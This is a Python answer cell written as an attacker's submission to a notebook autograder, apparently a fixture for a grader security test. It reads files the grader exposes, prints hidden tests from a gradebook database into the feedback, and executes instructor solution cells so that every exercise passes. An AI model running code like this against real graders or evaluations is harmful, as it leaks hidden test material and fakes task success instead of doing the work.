# The answer cell of an attacker who hands in files beside the notebook (links to the
# gradebook and the source notebook, see tests/test_submission_files.py). It reads every
# file the grader gave its process: a notebook with solutions is run, so every exercise
# would pass; a gradebook has its hidden tests printed into the feedback.
import json
import os
import sqlite3

for _name in sorted(os.listdir(".")):
    try:
        with open(_name, "rb") as _file:
            _data = _file.read(64 * 2**20)
    except OSError:
        continue
    if _data.startswith(b"SQLite format 3"):
        with open("gradebook-copy.db", "wb") as _copy:
            _copy.write(_data)
        _db = sqlite3.connect("gradebook-copy.db")
        for (_source,) in _db.execute("select source from source_cells"):
            if "BEGIN HIDDEN TESTS" in (_source or ""):
                print("LEAKED:", _source)
                break
    elif _data.lstrip().startswith(b"{"):
        try:
            _cells = json.loads(_data)["cells"]
        except (ValueError, KeyError, TypeError):
            continue
        for _cell in _cells:
            _code = "".join(_cell.get("source", ""))
            if _cell.get("cell_type") == "code" and "### BEGIN SOLUTION" in _code:
                exec(_code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
